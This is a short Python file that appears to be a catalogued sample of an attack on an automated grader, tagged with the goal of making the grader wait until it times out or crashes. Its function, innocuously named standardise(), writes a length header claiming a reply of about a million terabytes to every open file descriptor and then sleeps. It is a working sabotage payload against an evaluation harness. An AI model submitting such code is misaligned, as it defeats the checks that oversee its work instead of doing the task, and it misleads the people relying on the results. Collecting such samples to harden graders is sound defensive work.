"""Announces a reply of a million terabytes to whoever reads it to its end."""
# /// attack
# class = 39
# goal = "have the grader wait"
# gain = "hang"
# outcome = ["timeout", "crashed"]
# naive = true
# via = "apart"
# ///

import os
import struct
import time


def standardise(x):
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("<Q", 1 << 60) + b"x")
        except OSError:
            continue
    time.sleep(30)
